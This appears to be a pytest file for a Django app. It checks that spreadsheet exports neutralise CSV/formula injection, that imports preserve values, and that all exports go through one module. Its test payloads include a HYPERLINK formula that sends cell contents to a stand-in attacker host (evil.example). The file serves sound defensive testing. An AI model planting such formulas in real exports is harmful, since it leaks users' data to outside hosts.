"""Exports write text as text: a cell starting with =, +, -, @, tab or CR is never a
live formula (OWASP's CSV injection), and importing it back gives the value as typed."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from ocophub.core.tabular import TextWorkbook, read_table, table_response
from ocophub.testing.files import upload

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Mật ong")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def test_xlsx_cells_of_text_are_text_never_formulas():
    response = table_response("t", ["name", "n"], [[value, 5] for value in HOSTILE], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    # the text itself, unchanged; a lone CR may come back as a line feed, as XML
    # normalises line ends unless the writer escapes it (openpyxl's writers differ)
    assert [c.value.replace("\r", "\n") for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert sheet["B2"].value == 5 and sheet["B2"].data_type == "n"


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe_and_import_back():
    response = table_response("t", ["name", "note"], [[v, "ok"] for v in HOSTILE], "csv")
    text = response.content.decode("utf-8-sig")
    written = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert written == ["'" + value for value in HOSTILE]
    _headers, rows = read_table(upload("t.csv", response.content))
    assert [r["name"] for r in rows] == [v.strip() for v in HOSTILE]


def test_an_import_keeps_a_leading_equals_sign_as_typed():
    _headers, rows = read_table(upload("t.csv", b"name\n=1+2\n'plain\n"))
    assert [r["name"] for r in rows] == ["=1+2", "'plain"]


def test_every_workbook_a_sheet_makes_writes_text_as_text():
    for book in (TextWorkbook(), TextWorkbook(write_only=True)):
        sheet = book.active if not book.write_only else book.create_sheet("S")
        sheet.append(["=1+2"])
        out = io.BytesIO()
        book.save(out)
        cell = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]["A1"]
        assert (cell.value, cell.data_type) == ("=1+2", "s")


def test_no_export_writes_a_spreadsheet_but_through_core_tabular():
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = []
    for path in Path(settings.BASE_DIR, "ocophub").rglob("*.py"):
        parts = path.parts
        if "tests" in parts or "testing" in parts or path.name == "tabular.py":
            continue
        if writers.search(path.read_text()):
            offenders.append(str(path))
    assert offenders == []


@pytest.mark.django_db
def test_a_product_named_as_a_formula_is_exported_as_text(
    client, province_officer, make_producer, make_product
):
    make_product(make_producer(), name=HOSTILE[0])
    client.force_login(province_officer)
    sheet = load_workbook(io.BytesIO(client.get("/products/export.xlsx").content)).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == (HOSTILE[0], "s")
    assert "\n\"'=HYPERLINK" in client.get("/products/export.csv").content.decode("utf-8-sig")
